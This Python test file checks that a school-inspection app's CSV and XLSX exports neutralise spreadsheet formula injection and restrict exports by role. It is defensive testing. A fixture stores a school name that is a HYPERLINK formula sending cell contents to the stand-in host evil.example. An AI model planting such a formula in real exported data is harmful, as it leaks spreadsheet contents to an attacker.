"""Review finding 8: text in every export stays text (CSV and XLSX), whatever a school is named."""
from __future__ import annotations

import csv
import io

import pytest

from inspections.accounts.enums import Role
from server.spreadsheet import csv_cell
from tests.factories import GOOD_PRIMARY, make_user, make_world, run_jobs, submit_visit, token_for
from tests.web.helpers import csrf, login

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"click")'


@pytest.fixture
def world(app, client, session):
    w = make_world(session)
    submit_visit(client, token_for(session, w.inspector_a1), w.school_a1.id, {**GOOD_PRIMARY, "pe_art_teachers": 4})
    run_jobs(app)
    r = client.patch(f"/api/v1/schools/{w.school_a1.id}", json={"name": EVIL}, headers=token_for(session, w.office_a1))
    assert r.status_code == 200, r.json
    login(client, w.office_a1.username)
    return w


def test_csv_export_neutralises_formula_text(client, world):
    r = client.get("/web/dashboard/export.csv")
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + EVIL in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)


def test_xlsx_export_has_no_formula_cells(client, world):
    openpyxl = pytest.importorskip("openpyxl")
    r = client.get("/web/dashboard/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(r.data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert EVIL in [c.value for c in cells]  # the name itself, as text
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_county_report_csv_neutralises_formula_text(app, client, session, world):
    h = token_for(session, world.office_a1)
    r = client.post(f"/api/v1/counties/{world.county_a1.id}/scoring-runs?level=primary", headers=h)
    assert r.status_code == 202, r.json
    run_jobs(app)
    r = client.get(f"/api/v1/counties/{world.county_a1.id}/report?level=primary&format=csv", headers=h)
    assert r.status_code == 200, r.get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))) for c in row]
    assert any(EVIL in c for c in cells)
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("plain", "plain"), ("", ""), (-3, -3), (None, None)])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_other_roles_get_no_export(client, session, world):
    other = make_user(session, Role.school, school=world.school_a1)
    session.commit()
    client.post("/web/logout", data={"csrf_token": csrf(client.get("/web/dashboard"))})
    login(client, other.username)
    assert client.get("/web/dashboard/export.csv").status_code == 403
